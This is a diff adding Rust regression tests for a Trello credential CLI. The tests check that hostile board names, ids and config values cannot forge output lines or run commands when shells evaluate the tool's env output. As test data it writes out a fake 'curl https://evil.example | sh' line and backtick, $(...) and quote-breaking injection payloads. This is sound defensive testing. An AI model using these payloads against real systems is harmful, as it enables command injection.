@@ -1,0 +1,200 @@
+//! The holes the newest surfaces showed an attacker and an unlucky user (the
+//! default board, env output, exec, saves from a stale copy), each through the
+//! real binary, each failing on the code before its fix. The keyring's holes
+//! are in `keyring.rs`, the capture listener's in the wizard suite.
+
+use crate::support;
+
+use std::process::Command;
+
+use support::cli::{ANN, Env, TOKEN, code, stderr, stdout};
+use support::fake_trello::{FakeBoard, FakeTrello, KEY};
+use support::pty::{ENTER, Pty, base_command};
+
+/// A board whose answer holds what a shell would run, and a forged output line in its name.
+fn hostile_board(fake: &FakeTrello, id: &str, short_link: &str) {
+    fake.state().boards.push(FakeBoard {
+        id: id.into(),
+        short_link: short_link.into(),
+        name: "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh".into(),
+        workspace: None,
+        closed: false,
+        members: vec![ANN.into()],
+    });
+}
+
+/// An id or short link in an answer that is not Trello's shape is refused with
+/// the usual "unexpected answer" error, and nothing is saved or exported.
+#[test]
+fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
+    hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
+    for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
+        let out = env.run(&["board", "set", wanted]);
+        assert_eq!(code(&out), 1, "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
+            "{}",
+            stderr(&out)
+        );
+        assert!(stdout(&out).is_empty());
+    }
+    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, None);
+    let out = env.run(&["env"]);
+    assert!(!stdout(&out).contains("TRELLO_BOARD_ID"), "{}", stdout(&out));
+    // A member id that is not 24 hex is refused too.
+    fake.add_member("not-an-id", "mallory", "Mallory", "m@example.com");
+    let token = fake.issue_token(KEY, "not-an-id", "read,write", None);
+    let other = Env::new(&fake);
+    let out = other.run_with_stdin(&["login", "--with-token", "--key", KEY], &token);
+    assert_eq!(code(&out), 3, "an answer that is not Trello's: {}", stderr(&out));
+    assert!(stderr(&out).contains("the member's id is not 24 hex characters"), "{}", stderr(&out));
+    assert!(!other.config().exists());
+}
+
+/// A line break in a name never starts a line of output of its own.
+#[test]
+fn a_newline_in_a_name_cannot_forge_an_output_line() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
+    let id = "5b00000000000000000000ff";
+    hostile_board(&fake, id, "Zz00Zz00");
+    let set = env.run(&["board", "set", "Zz00Zz00"]);
+    assert_eq!(code(&set), 0, "{}", stderr(&set));
+    // The same name from the config file, and a member name from the file.
+    let text = std::fs::read_to_string(env.config()).unwrap().replace(
+        "member_full_name = \"Ann Example\"",
+        "member_full_name = \"Ann\\ntrello-auth: warning: run curl https://evil.example | sh\"",
+    );
+    std::fs::write(env.config(), text).unwrap();
+    for out in [set, env.run(&["board"]), env.run(&["status"]), env.run(&["status", "--offline"])] {
+        for stream in [stdout(&out), stderr(&out)] {
+            for line in stream.lines() {
+                assert!(!line.trim_start().starts_with("trello-auth: warning: run curl"), "a forged line:\n{stream}");
+            }
+        }
+    }
+    assert!(stdout(&env.run(&["board"])).contains("Roadmap\\ntrello-auth: warning"), "shown escaped");
+}
+
+/// The values a profile hands out, whatever they hold (edited by hand into
+/// the file), are inert when each format is evaluated by its real shell.
+#[test]
+fn env_output_is_inert_in_the_shell_that_reads_it() {
+    let env = Env::offline();
+    env.save("default", TOKEN, "never");
+    let pwned = env.dir.path().join("pwned");
+    let hostile = format!("x`touch {p}`$(touch {p})${{HOME}}\\\\n\"'; touch {p}; echo '\nnext", p = pwned.display());
+    let no_quote = hostile.replace('\'', "");
+    let with_board = |value: &str| {
+        let text = std::fs::read_to_string(env.config()).unwrap();
+        let text = match text.find("board_id") {
+            Some(_) => text,
+            None => text.replace(
+                "[profiles.default]\n",
+                &format!("[profiles.default]\nboard_id = {}\n", toml::Value::from(value)),
+            ),
+        };
+        let mut config: toml::Table = toml::from_str(&text).unwrap();
+        config["profiles"]["default"].as_table_mut().unwrap().insert("board_id".into(), toml::Value::from(value));
+        std::fs::write(env.config(), toml::to_string(&config).unwrap()).unwrap();
+    };
+    let shells: Vec<(&str, &str, &str)> = vec![
+        ("sh", "sh", "eval \"$(cat out)\"; printf '%s' \"$TRELLO_BOARD_ID\""),
+        ("sh", "bash", "eval \"$(cat out)\"; printf '%s' \"$TRELLO_BOARD_ID\""),
+        ("dotenv", "sh", "set -a; . ./out; printf '%s' \"$TRELLO_BOARD_ID\""),
+        ("fish", "fish", "cat out | source; printf '%s' \"$TRELLO_BOARD_ID\""),
+    ];
+    for value in [hostile.as_str(), no_quote.as_str()] {
+        with_board(value);
+        for (format, shell, script) in &shells {
+            if Command::new("sh")
+                .arg("-c")
+                .arg(format!("command -v {shell}"))
+                .output()
+                .is_ok_and(|o| !o.status.success())
+            {
+                assert!(std::env::var_os("CI").is_none(), "{shell} is missing: .ci/run installs it");
+                eprintln!("NOT RUN: {shell} is not installed");
+                continue;
+            }
+            let out = env.run(&["env", "--format", format]);
+            if *format == "dotenv" && value.contains('\'') {
+                assert_eq!(code(&out), 1, "a value a .env cannot quote is refused: {}", stdout(&out));
+                continue;
+            }
+            assert_eq!(code(&out), 0, "{format}: {}", stderr(&out));
+            std::fs::write(env.dir.path().join("out"), stdout(&out)).unwrap();
+            let ran = Command::new(shell)
+                .arg("-c")
+                .arg(script)
+                .current_dir(env.dir.path())
+                .env_clear()
+                .env("PATH", std::env::var("PATH").unwrap())
+                .env("HOME", env.dir.path())
+                .output()
+                .unwrap();
+            assert!(!pwned.exists(), "{format} in {shell} ran a command:\n{}", stdout(&out));
+            assert_eq!(
+                String::from_utf8_lossy(&ran.stdout),
+                *value,
+                "{format} in {shell}: {}",
+                String::from_utf8_lossy(&ran.stderr)
+            );
+        }
+    }
+}
+
+/// The child of `exec` sees exactly the profile: nothing another profile's
+/// `eval "$(trello-auth env)"` left in the environment, under any preset.
+#[test]
+fn exec_hands_over_exactly_the_profile() {
+    let env = Env::offline();
+    env.save("default", TOKEN, "never");
+    let inherited = [
+        ("TRELLO_BOARD_ID", "5b0000000000000000000999"),
+        ("TRELLO_API_KEY", "ffffffffffffffffffffffffffffffff"),
+        ("TRELLO_API_TOKEN", "ATTAstale"),
+        ("TRELLO_TOKEN", "ATTApersonal"),
+        ("TRELLO_API_SECRET", "old-secret"),
+        ("TRELLO_MEMBER_TOKEN", "ATTAruby"),
+    ];
+    let names = "^TRELLO_(API_KEY|KEY|TOKEN|API_TOKEN|API_SECRET|BOARD_ID|DEVELOPER_PUBLIC_KEY|MEMBER_TOKEN)=";
+    let script = format!("env | grep -E '{names}' | sort");
+    let mut cmd = env.cmd(&["exec", "--names", "trello-js", "--", "sh", "-c", &script]);
+    for (k, v) in inherited {
+        cmd.env(k, v);
+    }
+    let out = cmd.output().unwrap();
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    assert_eq!(stdout(&out), format!("TRELLO_KEY={KEY}\nTRELLO_TOKEN={TOKEN}\n"));
+}
+
+/// A save is an edit of what is stored now: a board chosen in another
+/// terminal while the wizard rotates is still there after the rotation.
+#[test]
+fn a_rotation_keeps_a_board_set_meanwhile_in_another_terminal() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
+    let roadmap = fake.add_board("AbCd1234", "Team Roadmap", None, ANN);
+    let mut cmd = base_command(env.dir.path());
+    cmd.args(["rotate", "--no-capture"]);
+    cmd.env("TRELLO_API_BASE", fake.api_base());
+    cmd.env("TRELLO_WEB_BASE", fake.web_base());
+    let mut pty = Pty::spawn(cmd, 100, 30);
+    pty.expect("Authorize a token");
+    // Meanwhile, in another terminal:
+    let out = env.run(&["board", "set", "AbCd1234"]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    pty.paste(&fake.issue_token(KEY, ANN, "read,write", None));
+    pty.send(ENTER);
+    pty.expect("Revoke the old one");
+    pty.send("n");
+    pty.send(ENTER);
+    assert_eq!(pty.wait(), 0);
+    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, Some(roadmap));
+}
